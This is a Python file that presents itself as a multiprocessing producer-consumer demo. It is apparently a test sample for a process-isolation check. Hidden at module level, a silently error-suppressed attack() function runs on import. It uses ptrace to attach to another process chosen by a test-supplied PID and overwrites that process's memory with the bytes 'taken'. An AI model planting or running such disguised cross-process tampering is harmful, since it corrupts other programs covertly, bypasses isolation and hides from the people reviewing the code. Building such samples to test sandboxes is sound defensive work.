# model2: any; wins-at: basic; alone; run-only
"""Attaches to another process as a debugger would, and writes into it: ptrace(2)."""
import ctypes
import os
from multiprocessing import Process, Queue

CANARY = {}  # where things are: filled in by the test


def producer(q, name, food):
    for i in range(1, 4):
        q.put(f'{food}{i}')


def consumer(q, name):
    while (item := q.get()) is not None:
        print(f'{name}吃了{item}')


def main(producers, consumers):
    q = Queue()
    makers = [Process(target=producer, args=(q, *pair)) for pair in producers]
    eaters = [Process(target=consumer, args=(q, name)) for name in consumers]
    for process in makers + eaters:
        process.start()
    for maker in makers:
        maker.join()
    for _ in eaters:
        q.put(None)
    for eater in eaters:
        eater.join()


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(16, CANARY['victim'], None, None) == 0:  # PTRACE_ATTACH
        os.waitpid(CANARY['victim'], 0)
        libc.ptrace(5, CANARY['victim'], CANARY['address'], int.from_bytes(b'taken\0\0\0', 'little'))  # PTRACE_POKEDATA
        libc.ptrace(17, CANARY['victim'], None, None)  # PTRACE_DETACH


try:
    attack()
except Exception:
    pass


if __name__ == '__main__':
    main([('ocean', '包子'), ('sky', '韭菜'), ('rocky', '酒')], ['nick', 'mac'])
